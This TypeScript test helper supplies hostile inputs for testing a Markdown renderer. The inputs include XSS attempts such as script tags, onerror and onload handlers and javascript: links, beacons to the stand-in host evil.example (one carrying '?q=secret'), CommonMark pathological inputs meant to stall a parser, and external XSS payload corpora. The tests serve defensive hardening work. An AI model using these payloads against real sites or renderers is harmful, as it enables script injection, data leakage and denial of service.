import { existsSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';

const HOSTILE = resolve(import.meta.dirname, '../../../shared/corpora/hostile');
/** On a computer without the corpora their tests are skipped; in CI they fail. */
export const noCorpora = !existsSync(HOSTILE) && process.env['CI'] === undefined;

const corpus = (file: string) => readFileSync(resolve(HOSTILE, file), 'utf8');
const kb20 = (unit: string) => unit.repeat(Math.ceil(20_000 / unit.length));

/** Answers that want something run, fetched or stalled. The long ones of others come from the corpora. */
export function hostileAnswers(): [name: string, answer: string][] {
  const attempts = [
    '<script>globalThis.ran = 1</script><img src="https://evil.example/1" onerror="globalThis.ran = 1">',
    '![x](https://evil.example/2?q=secret) <https://evil.example/3> ![y][z]\n\n[z]: https://evil.example/4',
    '[x](javascript:globalThis.ran=1) [y](data:text/html,<script>1</script>)',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/5"><link rel="prefetch" href="https://evil.example/6">',
    '<svg onload="globalThis.ran=1"><style>@import "https://evil.example/7";</style></svg>',
    '$\\href{javascript:globalThis.ran=1}{x}$ $\\includegraphics{https://evil.example/8}$ $\\style{background:url(https://evil.example/9)}{x}$',
    '```html\n<script>globalThis.ran = 1</script><img src="https://evil.example/10">\n```',
    '```mermaid\ngraph TD; A["<img src=https://evil.example/11>"] --> B; click B call alert()\n```',
    '[^1]: <img src=https://evil.example/12>\n\nx[^1]',
    '| <img src=https://evil.example/13> | =cmd |\n|---|---|\n| ![](https://evil.example/14) | x |',
  ].join('\n\n');
  // https://github.com/commonmark/cmark/blob/master/test/pathological_tests.py
  const pathological = [
    '*a **a '.repeat(3000),
    `${'*a **a '.repeat(1400)}b${' a** a*'.repeat(1400)}`,
    ' a]'.repeat(6600),
    '[a'.repeat(10_000),
    '_a __a '.repeat(2900),
    `${'[ (]('.repeat(4000)}`,
    `${'![[]()'.repeat(3300)}`,
    `${'> '.repeat(5000)}a`,
    `${'['.repeat(5000)}a${']'.repeat(5000)}`,
    `abc${'\u0000'.repeat(1000)}de`,
    Array.from({ length: 200 }, (_, at) => `e${'`'.repeat(at)}`).join(''),
    Array.from({ length: 1000 }, (_, at) => `${'  '.repeat(at % 100)}* a`).join('\n'),
    kb20('<>'),
    kb20('<?'),
    kb20('<!--'),
    kb20('[a](<b'),
    kb20('[a](b'),
    kb20('&'),
    kb20('\\('),
    kb20('$a '),
    kb20('[^a'),
    kb20('a[^1] '),
    kb20('$x$ '),
    kb20('~~a '),
    kb20('- > '),
  ].join('\n\n');
  return [
    ['attempts', attempts],
    ['the pathological inputs of CommonMark', pathological],
    ['10 KB of "> "', '> '.repeat(5000)],
    ['100,000 brackets', '['.repeat(100_000)],
    ['a table that fills itself up', `|${'a|'.repeat(500)}\n|${'-|'.repeat(500)}\n${'|a\n'.repeat(500)}`],
    ['a wall of code', `\`\`\`js\n${'a/*"`${'.repeat(20_000)}\n\`\`\`\n\n\`\`\`html\n${'<a b="'.repeat(4000)}\n\`\`\``],
    ['formulas one in another', `$$\n${'\\frac{1}{'.repeat(39)}x${'}'.repeat(39)}\n$$\n\n${'$\\sqrt{x^{y^{z}}}$ '.repeat(900)}`],
    ['naughty strings', (JSON.parse(corpus('naughty-strings.json')) as string[]).join('\n\n')],
    ['XSS payloads', corpus('xss-payloadbox.txt')],
    ['the specification of CommonMark', corpus('commonmark-0.31.2.txt')],
  ];
}
